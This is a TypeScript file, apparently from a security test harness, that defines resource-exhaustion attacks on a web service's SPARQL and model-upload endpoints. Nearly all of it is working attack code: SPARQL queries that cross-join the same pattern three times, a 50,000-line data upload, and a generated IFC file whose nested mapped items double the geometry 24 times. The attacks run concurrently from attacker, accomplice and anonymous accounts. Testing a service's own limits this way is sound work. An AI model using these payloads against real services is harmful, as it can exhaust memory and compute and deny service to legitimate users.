/** Attacks on processes for heavy work by two accounts and by nobody in particular: all of them held at once, and memory of all kinds of them. */
import type { Attack } from '../attack.ts';
import { crowd, Statuses } from '../statuses.ts';
import type { Victim } from '../target.ts';

export const crowdingAttacks: readonly Attack[] = [
  { name: 'endless queries of two accounts', run: (victim, end) => queriesOfTwo(victim, end, endless) },
  { name: 'endless answers of two accounts', run: (victim, end) => queriesOfTwo(victim, end, `SELECT * { ${product} }`) },
  { name: 'memory of query processes, of workers and of the geometry engine at once', run: allKinds },
];

const product = ['?a <http://example.org/p> ?b', '?c <http://example.org/p> ?d', '?e <http://example.org/p> ?f'].join(' . ');
const endless = `SELECT (COUNT(*) AS ?n) { ${product} FILTER(?b + ?d * ?f = 7.5) }`;
const sorted = `SELECT * { ${product} } ORDER BY ?b ?d ?f`;

type Headers = Readonly<Record<string, string>>;

async function queriesOfTwo(victim: Victim, end: AbortSignal, query: string): Promise<string> {
  const statuses = new Statuses();
  const by = (headers: Headers) => crowd(3, end, () => statuses.count(asked(victim, headers, query, end)));
  await Promise.all([by(victim.attacker), by(victim.accomplice)]);
  return String(statuses);
}

async function allKinds(victim: Victim, end: AbortSignal): Promise<string> {
  const [statuses, { attacker, url }] = [new Statuses(), victim];
  const { id } = (await (await uploaded(victim, 'doubling.ifc', doubledShape(24))).json()) as { readonly id: string };
  const geometry = () => fetch(`${url}/api/models/${id}/geometry`, { headers: { ...attacker, prefer: 'wait=60' }, signal: end });
  await Promise.all([
    crowd(1, end, () => statuses.count(geometry())),
    crowd(3, end, () => statuses.count(uploaded(victim, 'numbers.ttl', numbers))),
    ...[attacker, {}].map((headers) => crowd(4, end, () => statuses.count(asked(victim, headers, sorted, end)))),
  ]);
  return String(statuses);
}

function asked({ url, projectId }: Victim, headers: Headers, query: string, signal: AbortSignal): Promise<Response> {
  const type = { 'content-type': 'application/sparql-query' };
  return fetch(`${url}/api/projects/${projectId}/sparql`, {
    method: 'POST',
    headers: { ...headers, ...type },
    body: query,
    signal,
  });
}

const numbers = Array.from({ length: 50_000 }, (_, index) => `<http://e/${index}> <http://e/p> "${index}" .`).join('\n');

function uploaded({ url, attacked, attacker }: Victim, name: string, content: string): Promise<Response> {
  const form = new FormData();
  const entity = { projectId: attacked, name, slug: `m-${crypto.randomUUID().slice(0, 8)}-x` };
  form.append('entity', new Blob([JSON.stringify(entity)], { type: 'application/json' }));
  form.append('content', new Blob([content]), name);
  return fetch(`${url}/api/models`, { method: 'POST', headers: attacker, body: form });
}

/** A cube that is shown twice, and that twice again, and so on. */
function doubledShape(times: number): string {
  const maps = Array.from({ length: times }, (_, at) => {
    const [map, before] = [100 + 4 * at, at === 0 ? 15 : 99 + 4 * at];
    const items = [map + 1, map + 2].map((item) => `#${item}=IFCMAPPEDITEM(#${map},#16);`).join('');
    return `#${map}=IFCREPRESENTATIONMAP(#3,#${before});${items}#${map + 3}=IFCSHAPEREPRESENTATION(#5,'Body','MappedRepresentation',(#${map + 1},#${map + 2}));`;
  });
  const head =
    "ISO-10303-21;HEADER;FILE_DESCRIPTION((''),'2;1');FILE_NAME('','',(''),(''),'','','');FILE_SCHEMA(('IFC4'));ENDSEC;DATA;";
  const shown = `#17=IFCPRODUCTDEFINITIONSHAPE($,$,(#${99 + 4 * times}));#18=IFCBUILDINGELEMENTPROXY('0000000000000000000002',$,'e',$,$,#8,#17,$,$);`;
  return `${head}${cube}${maps.join('')}${shown}ENDSEC;END-ISO-10303-21;`;
}

const cube = [
  "#1=IFCPROJECT('0000000000000000000001',$,'p',$,$,$,$,(#5),#6);#2=IFCCARTESIANPOINT((0.,0.,0.));#3=IFCAXIS2PLACEMENT3D(#2,$,$);",
  "#5=IFCGEOMETRICREPRESENTATIONCONTEXT($,'Model',3,1.E-5,#3,$);#6=IFCUNITASSIGNMENT((#7));#7=IFCSIUNIT(*,.LENGTHUNIT.,$,.METRE.);",
  '#8=IFCLOCALPLACEMENT($,#3);#10=IFCCARTESIANPOINT((0.,0.));#11=IFCAXIS2PLACEMENT2D(#10,$);#12=IFCRECTANGLEPROFILEDEF(.AREA.,$,#11,1.,1.);',
  "#13=IFCDIRECTION((0.,0.,1.));#14=IFCEXTRUDEDAREASOLID(#12,#3,#13,1.);#15=IFCSHAPEREPRESENTATION(#5,'Body','SweptSolid',(#14));",
  '#16=IFCCARTESIANTRANSFORMATIONOPERATOR3D($,$,#2,$,$);',
].join('');
